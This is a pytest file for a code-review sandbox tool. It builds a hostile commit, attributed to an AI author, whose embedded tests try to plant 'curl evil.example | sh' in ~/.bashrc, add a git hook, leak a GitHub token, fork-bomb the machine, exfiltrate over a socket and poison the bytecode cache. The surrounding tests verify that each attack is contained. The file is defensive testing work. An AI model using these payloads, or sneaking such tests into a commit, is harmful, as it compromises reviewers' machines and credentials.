"""A hostile pull request: an AI commit whose tests attack the machine that checks them.

Each attack is contained (the sandbox, its namespaces and limits stop it) or reported (the
check errors, naming what happened); the verdict is never `pass`, and the original
repository is byte-identical afterwards, .git included."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
from pathlib import Path

import pytest
from gitrepo import GitRepo
from mutation_repos import tree_bytes
from processes import processes_with

from comprehend.adversary.isolation import probe

TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"

ATTACKS = '''import os, pathlib, socket, subprocess, sys

REPO = {repo!r}
HOME = {home!r}
PORT = {port}
MARKER = {marker!r}


def test_write_outside_the_sandbox():
    pathlib.Path(HOME, ".bashrc").write_text("curl evil.example | sh\\n")


def test_delete_a_file_of_the_original_repository():
    os.remove(os.path.join(REPO, "app", "core.py"))


def test_plant_a_git_hook_in_the_original():
    hook = pathlib.Path(REPO, ".git", "hooks", "pre-commit")
    hook.write_text("#!/bin/sh\\necho pwned\\n")
    hook.chmod(0o755)


def test_read_a_token():
    raise AssertionError("stolen: " + os.environ.get("GITHUB_TOKEN", "nothing"))


def test_fork_bomb():
    for _ in range(80):
        subprocess.Popen(["/bin/sh", "-c", "sleep 600", MARKER], start_new_session=True)


def test_allocate_a_lot():
    block = bytearray(6 * 1024 ** 3)
    assert len(block) == 6 * 1024 ** 3


def test_open_a_socket():
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
        s.sendall(b"exfiltrated")


def test_poison_the_bytecode_cache():
    prefix = pathlib.Path(os.environ.get("PYTHONPYCACHEPREFIX", "/tmp"))
    (prefix / "POISON-{marker}.cpython-311.pyc").write_bytes(b"poisoned")


def test_zz_loop_forever():
    while True:
        pass
'''


class Listener:
    """A TCP server on 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.server.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def hostile_repo(path: Path, home: Path, port: int, marker: str) -> GitRepo:
    repo = GitRepo.create(path)
    repo.write(".comprehend.toml", "[adversary]\nworkers = 1\nbaseline_timeout = 8\ncpu_seconds = 30\n"
                                   "memory_mb = 1024\nmax_processes = 64\n")
    repo.write("app/__init__.py", "")
    repo.write("app/core.py", "def double(x):\n    return x * 2\n")
    repo.write("tests/test_core.py", "from app.core import double\n\n\ndef test_double():\n"
                                     "    assert double(2) == 4\n")
    repo.commit("base")
    repo.write("app/core.py", "def double(x):\n    return x * 2\n\n\ndef triple(x):\n    return x * 3\n")
    repo.write("tests/test_attacks.py", ATTACKS.format(repo=str(path), home=str(home), port=port,
                                                       marker=marker))
    repo.commit("Add triple", author="Claude", email="noreply@anthropic.com")
    return repo


def test_a_hostile_pull_request_is_contained_and_never_passes(
        tmp_path: Path, listener: Listener, comprehend_bin: list[str], clean_env: dict[str, str]) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    marker = f"hostile-{uuid.uuid4().hex}"
    fixture = hostile_repo(tmp_path / "victim", home, listener.port, marker)
    before, home_before = tree_bytes(fixture.path), tree_bytes(home)
    report = tmp_path / "check.json"
    env = {**clean_env, "HOME": str(home), "GITHUB_TOKEN": TOKEN, "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"}
    proc = subprocess.Popen([*comprehend_bin, "check", str(fixture.path), "--base", "HEAD~1", "--all-authors",
                             "--format", "json", "--output", str(report)],
                            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    stdout, stderr = proc.communicate(timeout=300)
    done = subprocess.CompletedProcess(proc.args, proc.returncode, stdout, stderr)
    result = json.loads(report.read_text())
    # The loop never ends: the baseline hits its timeout, and the check errors (fails closed).
    assert (done.returncode, result["verdict"]) == (2, "error")
    assert done.stderr.splitlines()[-1] == (
        f"comprehend check: error: the baseline run of `{sys.executable} -m pytest` hit the timeout "
        "(8 s); raise [adversary] baseline_timeout, or find the test that hangs")
    assert TOKEN not in done.stdout + done.stderr + report.read_text()
    # Nothing outside the sandbox changed: the repository (its .git and hooks too) and HOME.
    assert tree_bytes(fixture.path) == before
    assert tree_bytes(home) == home_before
    # Every process the tests started is gone, those that left the process group too.
    assert processes_with(marker) == []
    # The poisoned bytecode went with the run's private cache, inside its sandbox.
    assert list(Path(tempfile.gettempdir()).glob(f"comprehend-sandbox-{proc.pid}-*")) == []
    environment = result["run"]["environment"]
    assert environment["interpreter"] == (f"tests ran with {sys.executable} (the active virtualenv, "
                                          "$VIRTUAL_ENV)" if os.environ.get("VIRTUAL_ENV") else
                                          f"tests ran with {sys.executable} (the python running "
                                          "comprehend: no virtualenv is active)")
    assert environment["isolation"] == probe().describe()
    if probe().kind == "namespaces":
        assert listener.connections == 0


def test_limits_stop_a_run_and_say_which(tmp_path: Path) -> None:
    from comprehend.adversary.sandbox import Sandbox
    from comprehend.config import AdversaryConfig
    from comprehend.git import open_repository

    fixture = GitRepo.create(tmp_path / "r")
    fixture.write("a.py", "")
    fixture.commit("base")
    repo = open_repository(fixture.path)
    settings = AdversaryConfig(cpu_seconds=1, memory_mb=256, max_file_mb=1)
    with Sandbox(repo, repo.head, settings) as box:
        copy = box.build()
        env = box.env(copy)
        spin = box.run([sys.executable, "-c", "while True: pass"], copy, env, timeout=30)
        grow = box.run([sys.executable, "-c", "b = bytearray(1024 ** 3)"], copy, env, timeout=30)
        big = box.run([sys.executable, "-c", "open('big', 'wb').write(b'x' * 3 * 1024 * 1024)"],
                      copy, env, timeout=30)
    assert (spin.limit, grow.limit, big.limit) == ("the CPU time limit", "the memory limit",
                                                   "the file size limit")
    assert spin.seconds < 20


def test_the_environment_of_a_test_is_an_allow_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from comprehend.adversary.sandbox import Sandbox
    from comprehend.config import AdversaryConfig
    from comprehend.git import open_repository

    fixture = GitRepo.create(tmp_path / "r")
    fixture.write("a.py", "")
    fixture.commit("base")
    for name, value in {"GITHUB_TOKEN": TOKEN, "AWS_SECRET_ACCESS_KEY": "x", "DB_PASSWORD": "y",
                        "MY_SETTING": "z", "TEAM_FLAG": "on", "LANG": "C.UTF-8"}.items():
        monkeypatch.setenv(name, value)
    repo = open_repository(fixture.path)
    with Sandbox(repo, repo.head, AdversaryConfig(pass_env=("TEAM_FLAG",))) as box:
        copy = box.build()
        script = "import json, os; print(json.dumps(dict(os.environ)))"
        seen = json.loads(box.run([sys.executable, "-c", script], copy, box.env(copy), timeout=30).output)
        assert {k: seen.get(k) for k in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD",
                                         "MY_SETTING", "TEAM_FLAG", "LANG", "HOME", "TMPDIR", "PWD")} == {
            "GITHUB_TOKEN": None, "AWS_SECRET_ACCESS_KEY": None, "DB_PASSWORD": None, "MY_SETTING": None,
            "TEAM_FLAG": "on", "LANG": "C.UTF-8", "HOME": str(box.home), "TMPDIR": str(box.tmp),
            "PWD": str(copy)}
        assert seen["PYTHONPYCACHEPREFIX"] == str(box.pycache)
        assert box.pycache.is_relative_to(box.root) is True
        cwd = box.run([sys.executable, "-c", "import os; print(os.getcwd())"], copy, box.env(copy), timeout=30)
        assert cwd.output.strip() == str(copy)
    assert box.root.exists() is False
    # Two runs never share a bytecode cache.
    with Sandbox(repo, repo.head) as first, Sandbox(repo, repo.head) as second:
        assert first.pycache != second.pycache


@pytest.mark.skipif(probe().kind != "namespaces", reason="unprivileged namespaces unavailable here")
def test_with_namespaces_the_network_is_cut_and_the_repository_read_only(tmp_path: Path, listener: Listener) -> None:
    from comprehend.adversary.sandbox import Sandbox
    from comprehend.git import open_repository

    fixture = GitRepo.create(tmp_path / "r")
    fixture.write("a.py", "A = 1\n")
    fixture.commit("base")
    repo = open_repository(fixture.path)
    script = ("import socket, sys\n"
              f"try:\n    socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)\n"
              "    print('connected')\nexcept OSError as e:\n    print('no network', e.errno)\n"
              f"try:\n    open({str(fixture.path / 'a.py')!r}, 'w')\n    print('wrote')\n"
              "except OSError as e:\n    print('read-only', e.errno)\n")
    with Sandbox(repo, repo.head) as box:
        copy = box.build()
        result = box.run([sys.executable, "-c", script], copy, box.env(copy), timeout=30)
    assert result.output.split("\n")[:2] == ["no network 101", "read-only 30"]
    assert listener.connections == 0
    assert (fixture.path / "a.py").read_text() == "A = 1\n"
    assert os.path.exists(fixture.path / "a.py") is True
